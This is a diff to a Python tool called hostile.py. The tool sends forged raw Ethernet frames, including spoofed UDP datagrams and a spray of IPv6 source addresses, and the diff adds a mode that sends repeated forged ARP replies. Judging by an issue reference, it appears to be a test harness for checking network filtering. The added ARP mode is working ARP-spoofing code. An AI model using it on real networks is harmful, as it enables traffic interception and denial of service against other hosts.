@@ -4,6 +4,7 @@ usage: hostile.py IFACE SRC_MAC DST_MAC MODE ARGS...
 
   udp4 SRC DST COUNT            COUNT UDP datagrams from IPv4 address SRC (any, e.g. a neighbour's)
   udp6 SRC DST COUNT            the same over IPv6
+  arp CLAIMED_IP TARGET_IP COUNT  COUNT ARP replies saying CLAIMED_IP is at SRC_MAC (to TARGET_IP)
   spray6 PREFIX64 DST COUNT SECONDS
                                 COUNT UDP datagrams, each from another address in PREFIX64, spread
                                 evenly over SECONDS (the source spray of issue 17)
@@ -77,6 +78,16 @@ def main(argv: list[str]) -> None:
         for _ in range(count):
             sock.send(frame)
             sent += 1
+    elif mode == "arp":
+        claimed, target, count = args[0], args[1], int(args[2])
+        arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + _mac(src_mac)
+        arp += ipaddress.IPv4Address(claimed).packed + _mac(dst_mac)
+        arp += ipaddress.IPv4Address(target).packed
+        frame = _mac(dst_mac) + _mac(src_mac) + struct.pack("!H", 0x0806) + arp
+        for _ in range(count):
+            sock.send(frame)
+            sent += 1
+            time.sleep(0.05)
     elif mode == "spray6":
         net = ipaddress.IPv6Network(args[0])
         dst, count, seconds = args[1], int(args[2]), float(args[3])
